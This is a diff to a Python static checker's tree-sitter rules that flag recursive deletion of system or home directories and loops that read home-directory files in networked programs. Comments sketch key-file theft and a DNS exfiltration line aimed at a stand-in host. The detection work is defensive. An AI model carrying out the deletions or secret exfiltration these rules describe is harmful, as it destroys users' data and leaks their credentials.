@@ -157,10 +157,13 @@
  (#set! severity "warn")
  (#set! message "imports everything from a powerful module, which hides which of its functions are used"))
 
+; the standard library's other recursive deletes count as shutil's
+; (distutils' and setuptools' dir_util.remove_tree,
+; test.support.os_helper.rmtree)
 ((call
    function: (_) @fn
    arguments: (argument_list . (_) @path)) @finding
- (#resolves-to? @fn "shutil\\.(rmtree|move|_rmtree_safe_fd|_rmtree_unsafe|_rmtree_impl)|os\\.(removedirs|rmdir|rename|renames|replace)|tempfile\\.TemporaryDirectory\\._rmtree|distutils\\.dir_util\\.remove_tree")
+ (#resolves-to? @fn "shutil\\.(rmtree|move|_rmtree_safe_fd|_rmtree_unsafe|_rmtree_impl)|os\\.(removedirs|rmdir|rename|renames|replace)|tempfile\\.TemporaryDirectory\\._rmtree|(setuptools\\._)?distutils\\.dir_util\\.remove_tree|test\\.support\\.(os_helper\\.)?rmtree")
  (#value-match? @path "^(/|~|/\\*|/(bin|boot|etc|home|lib|opt|root|usr|var)|~/\\*?|/home/[^/]+)/?$|^(~|/[^/]*)(/+\\.?)*(/+\\.\\.)+(/+\\.?)*/?$")
  (#set! id "py-destructive")
  (#set! severity "high")
@@ -209,6 +212,24 @@
  (#set! id "py-destructive")
  (#set! severity "high")
  (#set! message "deletes or moves away the files of a whole system or home directory, one by one"))
+
+; the home directory's entries looked through, and what is in them read,
+; in a program that talks to the network: for e in os.scandir(home): if
+; e.name.endswith("sh"): ... open(k.path).read() ... then posted. Which
+; directory holds keys is hidden in a test on the names, but the program
+; reads the files of the home directory and can send them (os.walk,
+; scandir, listdir, glob; Path.home().iterdir() is not: a pattern over
+; every loop on a method call costs more than the check's budget allows)
+((for_statement
+   right: (call function: (_) @fn arguments: (argument_list . (_) @root))
+   body: (_) @body) @finding
+ (#resolves-to? @fn "os\\.(walk|scandir|listdir)|glob\\.i?glob")
+ (#value-match? @root "^~(/\\*|/\\.\\*)?/?$")
+ (#match? @body "(^|[^A-Za-z0-9_])(open|read_bytes|read_text|copyfile|copy2?|scandir|listdir|iterdir|walk)\\s*\\(")
+ (#program-calls? @fn "(urllib\\.request|urllib3|requests|httpx|aiohttp|http\\.client|socket|ftplib|smtplib|xmlrpc\\.client|paramiko)(\\..*)?|urllib\\.urlretrieve|asyncio\\.open_connection")
+ (#set! id "py-credentials")
+ (#set! severity "high")
+ (#set! message "reads the files found in the home directory, where keys and tokens are, in a program that talks to the network"))
 
 ; socket.gethostbyname(os.environ["KEY"] + ".exfil.example"): a value of
 ; the environment sent out as a name to look up (DNS carries it out even
